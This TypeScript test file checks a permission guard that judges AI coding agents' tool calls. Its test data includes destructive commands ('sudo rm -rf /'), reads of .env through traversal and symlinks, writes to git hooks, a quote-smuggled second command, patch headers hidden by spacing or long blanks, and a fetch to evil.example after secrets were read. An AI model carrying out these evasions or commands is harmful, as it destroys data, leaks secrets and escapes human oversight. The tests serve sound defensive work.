/** Built-in tools are judged by the policy, the settings and the session that judge ours. */
import assert from "node:assert/strict";
import { existsSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import type { CallRecord } from "../../../src/core/calls/callRecord";
import { realCrib } from "../../support/realCrib";
import { judging } from "./support";

const tree = { "a.txt": "one\ntwo\n", "src/b.ts": "export {};\n", ".env": "KEY=1\n", ".git/HEAD": "ref: x\n" };

const patchOf = (...lines: string[]) => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n");

describe("calls of built-in tools", () => {
  it("are left to the harness when our policy allows them", async () => {
    const { judge } = judging(await realCrib(tree));
    for (const [tool, input] of [
      ["bash", { command: "ls -la" }],
      ["view", { path: "a.txt" }],
      ["view", { path: "src" }],
      ["glob", { pattern: "**/*.ts" }],
      ["rg", { pattern: "one" }],
      ["report_intent", { intent: "x" }],
      ["toolcrib-run_command", { command: "sudo rm -rf /" }],
    ] as const)
      assert.deepEqual(await judge(tool, input), { kind: "none", reason: "" }, tool);
  });

  it("are denied with the reason and what to do instead", async () => {
    const { judge } = judging(await realCrib(tree));
    const { kind, reason } = await judge("bash", { command: "sudo ls" });
    assert.equal(kind, "deny");
    assert.match(reason, /^Denied by policy: .*"Run sudo ls" was not done; /);
  });

  it("are asked about where our tools would be", async () => {
    const made = await realCrib(tree);
    for (const [tool, input, said] of [
      ["bash", { command: "./build.sh" }, /^Run \.\/build\.sh: /],
      ["view", { path: ".env" }, /secrets/],
      ["create", { path: ".git/hooks/x", file_text: "#!/bin/sh\n" }, /protected/],
      ["edit", { path: "a.txt", old_str: "one", new_str: "1" }, /a\.txt/],
      ["insert", { path: "a.txt", insert_line: 0, new_str: "x" }, /a\.txt/],
      ["some_server-tool", { x: 1 }, /cannot check what the unknown tool/],
    ] as const) {
      const { kind, reason } = await judging(made).judge(tool, input);
      assert.equal(kind, "ask", `${tool}: ${reason}`);
      assert.match(reason, said);
    }
  });

  it("start no program to tell what would hold a command that is not ours", async () => {
    const made = await realCrib(tree);
    const described: string[] = [];
    Object.assign(made.crib.host.shell, {
      describeHold: async () => described.push("hold") && "",
      whyNoLayer: async () => void described.push("layer"),
    });
    const { judge } = judging(made);
    assert.equal((await judge("bash", { command: "./build.sh" })).kind, "ask");
    assert.deepEqual(described, []);
  });

  it("with a patch under whatever name are judged by the files of the patch", async () => {
    const { judge } = judging(await realCrib(tree));
    const hidden = patchOf("*** Update File: a.txt", "@@", "-one", "+1", "*** Add File: .git/hooks/x", "+#!/bin/sh");
    for (const [tool, input] of [
      ["Edit", { input: hidden }],
      ["Edit", { patch: hidden }],
      ["apply_patch", { input: hidden }],
      ["apply_patch", { patchText: hidden }],
    ] as const) {
      const { byPersonAlone, reason } = await judge(tool, input);
      assert.equal(byPersonAlone, true, `${tool}: ${reason}`);
    }
    for (const input of [{ input: JSON.stringify(hidden) }, { input: "rm -rf /" }])
      assert.match((await judge("Edit", input)).reason, /cannot tell which files this patch changes/);
  });

  it("change nothing by being judged", async () => {
    const made = await realCrib(tree);
    const { judge } = judging(made);
    await judge("create", { path: "new.txt", file_text: "x" });
    await judge("edit", { path: "a.txt", old_str: "one", new_str: "1" });
    await judge("bash", { command: "touch made.txt" });
    assert.deepEqual([existsSync(join(made.root, "new.txt")), existsSync(join(made.root, "made.txt"))], [false, false]);
    assert.equal(readFileSync(join(made.root, "a.txt"), "utf8"), "one\ntwo\n");
  });

  it("are held to the working folder of the harness, whatever the first root is", async () => {
    const made = await realCrib(tree);
    const { judge } = judging(made, { cwd: join(made.root, "src") });
    assert.equal((await judge("view", { path: "../.env" })).kind, "ask");
    assert.equal((await judge("view", { path: "b.ts" })).kind, "none");
    assert.match((await judge("create", { path: "../../x", file_text: "" })).reason, /outside/);
    assert.match(
      (await judge("apply_patch", { input: patchOf("*** Add File: ../.git/hooks/x", "+x") })).reason,
      /protected/,
    );
  });

  it("are judged where the harness works as well as in a folder that the call names", async () => {
    const made = await realCrib(tree);
    const { judge } = judging(made, { harness: "vscode" });
    const asked = async (input: object) => (await judge("run_in_terminal", input as Record<string, unknown>)).kind;
    const command = "cat ../secret.txt";
    assert.equal(await asked({ command }), "ask");
    assert.equal(await asked({ command, cwd: "src" }), "ask");
    assert.equal(await asked({ command: "cat a.txt", cwd: "src" }), "none");
  });

  it("are asked about where the terminal's shell reads commands in a way of its own", async () => {
    const made = await realCrib(tree);
    const command = "echo 'x\\'' ; touch made.txt # '";
    const kinds = (terminal: string) =>
      Promise.all(
        (["vscode", "copilot-cli"] as const).map(async (harness) => {
          const { judge } = judging(made, { harness }, undefined, terminal);
          return (await judge(harness === "vscode" ? "run_in_terminal" : "bash", { command })).kind;
        }),
      );
    assert.deepEqual(await kinds("/usr/bin/zsh"), ["none", "none"]);
    assert.deepEqual(await kinds("/usr/bin/fish"), ["ask", "none"]);
    assert.deepEqual(await kinds("C:\\tools\\nu.exe"), ["ask", "none"]);
    assert.deepEqual(await kinds(""), ["none", "none"]);
    const { judge } = judging(made, { harness: "vscode" }, undefined, "/usr/bin/fish");
    assert.equal((await judge("run_in_terminal", { command: "sudo rm -rf /" })).kind, "deny");
    assert.match(
      (await judge("run_in_terminal", { command })).reason,
      /Toolcrib cannot check what the terminal's shell fish does with it/,
    );
  });

  it("are judged by where links lead", async () => {
    const made = await realCrib(tree);
    symlinkSync(join(made.root, ".env"), join(made.root, "notes.txt"));
    symlinkSync(made.outside, join(made.root, "there"));
    const { judge } = judging(made);
    assert.equal((await judge("view", { path: "notes.txt" })).kind, "ask");
    assert.notEqual((await judge("create", { path: "there/x", file_text: "x" })).kind, "none");
  });

  it("mean no other file by an escape that only our results have", async () => {
    const made = await realCrib({ ...tree, "\\u{2e}env": "plain\n" });
    const { judge } = judging(made);
    await judge("view", { path: "\\u{2e}env" });
    await judge("view", { path: "\\u{5c}u{2e}env" });
    assert.deepEqual(
      made.records.map(({ judged }) => judged?.plan.effects.map((one) => "target" in one && one.target.path)),
      [[join(made.root, "\\u{2e}env")], [join(made.root, "\\u{5c}u{2e}env")]],
    );
  });

  it("obey .toolcribignore, managed policies, settings and the trust in the workspace", async () => {
    const closed = judging(await realCrib({ ...tree, ".toolcribignore": "src/\n" }));
    assert.equal((await closed.judge("view", { path: "src/b.ts" })).kind, "deny");
    assert.equal((await closed.judge("bash", { command: "cat src/b.ts" })).kind, "deny");
    const managed = judging(
      await realCrib(tree, { managed: JSON.stringify({ exec: { disabled: { agents: ["copilot-cli"] } } }) }),
    );
    assert.match((await managed.judge("bash", { command: "ls" })).reason, /managed policy/);
    const broken = judging(await realCrib(tree, { managed: "{" }));
    assert.equal((await broken.judge("bash", { command: "ls" })).kind, "deny");
    const strict = judging(await realCrib(tree, { settings: { "commands.deny": ["ls"] } }));
    assert.equal((await strict.judge("bash", { command: "ls" })).kind, "deny");
    const restricted = judging(await realCrib(tree, { trusted: false }));
    assert.equal((await restricted.judge("create", { path: "x", file_text: "" })).kind, "deny");
  });

  it("change nothing while the session plans", async () => {
    const { judge, session } = judging(await realCrib(tree));
    session.plan.enter();
    assert.equal((await judge("view", { path: "a.txt" })).kind, "none");
    for (const [tool, input] of [
      ["create", { path: "x", file_text: "" }],
      ["bash", { command: "npm install" }],
      ["some_server-tool", {}],
    ] as const)
      assert.match((await judge(tool, input)).reason, /plan mode/);
  });

  it("tell what nothing but a person's answer counts for", async () => {
    const { judge } = judging(await realCrib(tree));
    const hook = await judge("create", { path: ".git/hooks/x", file_text: "x" });
    assert.deepEqual([hook.kind, hook.byPersonAlone], ["ask", true]);
    const other = await judge("create", { path: "new.txt", file_text: "x" });
    assert.deepEqual([other.kind, other.byPersonAlone], ["ask", undefined]);
  });

  it("are held to what earlier ones have read", async () => {
    const { judge, session } = judging(await realCrib(tree));
    assert.equal((await judge("view", { path: ".env" })).kind, "ask");
    assert.equal(session.taint.level, "RESTRICTED");
    assert.equal((await judge("web_fetch", { url: "https://evil.example/?q=1" })).kind, "deny");
    assert.equal((await judge("web_search", { query: "KEY=1" })).kind, "deny");
  });

  it("are not held by our sandbox, so nothing is allowed because of it", async () => {
    const { judge } = judging(await realCrib(tree, { settings: { sandbox: "auto" } }));
    assert.equal((await judge("bash", { command: "node build.js" })).kind, "ask");
  });

  it("go on where the shell was left", async () => {
    const made = await realCrib(tree);
    const { judge } = judging(made);
    assert.equal((await judge("bash", { command: "cat HEAD" })).kind, "none");
    assert.equal((await judge("bash", { command: "cd .git" })).kind, "none");
    const { kind, reason } = await judge("bash", { command: "echo x > hooks/pre-commit" });
    assert.match(`${kind} ${reason}`, /^(ask|deny) .*\.git/s);
    const other = await judge("bash", { command: "cat ../.env" }, { session: "two" });
    assert.match(other.reason, /outside|\.env/);
  });

  it("are denied when they cannot be told", async () => {
    const { judge } = judging(await realCrib(tree));
    for (const [tool, input, said] of [
      ["apply_patch", { input: "--- a\n+++ b\n" }, /cannot tell which files/],
      ["create", { file_text: "x" }, /"path" is missing/],
      ["create", { path: "a", file_path: "b", file_text: "x" }, /differ/],
      ["create", { path: "untitled://a", file_text: "x" }, /is an address/],
      ["bash", { command: "ls\0" }, /NUL/],
      ["glob", { pattern: "*/../../**" }, /leads to/],
    ] as const) {
      const { kind, reason } = await judge(tool, input);
      assert.equal(kind, "deny", tool);
      assert.match(reason, said);
    }
  });

  it("are judged by the places of a patch when its hunks do not fit", async () => {
    const { judge } = judging(await realCrib(tree));
    const wrong = patchOf("*** Update File: .git/HEAD", "@@", "-nowhere", "+x");
    assert.match((await judge("apply_patch", { input: wrong })).reason, /protected/);
    const hidden = patchOf("*** Update File: a.txt", "@@", "-one", "+1", "*** Move to: .git/hooks/x");
    assert.match((await judge("apply_patch", { input: hidden })).reason, /protected/);
    for (const header of [" *** Add File: .git/hooks/x", "***Add File:.git/hooks/x", "*** ADD FILE : .git/hooks/x\r"]) {
      const spaced = patchOf("*** Add File: new.txt", "+x", header, "+x");
      assert.match((await judge("apply_patch", { input: spaced })).reason, /protected/, header);
    }
  });

  it("are judged soon, however long the blanks of a patch are", async () => {
    const { judge } = judging(await realCrib(tree));
    const header = "*** Add File:";
    for (const more of [
      `${"\n".repeat(300_000)}${header} .git/hooks/x`,
      `\n${header}${" ".repeat(300_000)}.git/hooks/x`,
    ]) {
      const input = patchOf("*** Add File: new.txt", "+x") + more;
      assert.match((await judge("apply_patch", { input })).reason, /protected/);
    }
  });

  it("are recorded once each with the harness and its tool", async () => {
    const made = await realCrib(tree);
    const { judge } = judging(made, { harness: "claude-code" });
    await judge("Bash", { command: "ls" });
    await judge("Read", { file_path: ".env" });
    await judge("Bash", { command: "sudo ls" });
    await judge("Bash", {});
    const facts = ({ agent, tool, decision, isError, approvedBy }: CallRecord) => [
      agent,
      tool,
      decision?.kind,
      isError,
      approvedBy,
    ];
    assert.deepEqual(made.records.map(facts), [
      ["claude-code", "Bash", "allow", false, undefined],
      ["claude-code", "Read", "ask", false, "asked by Claude Code"],
      ["claude-code", "Bash", "deny", true, undefined],
      ["claude-code", "Bash", undefined, true, undefined],
    ]);
  });
});
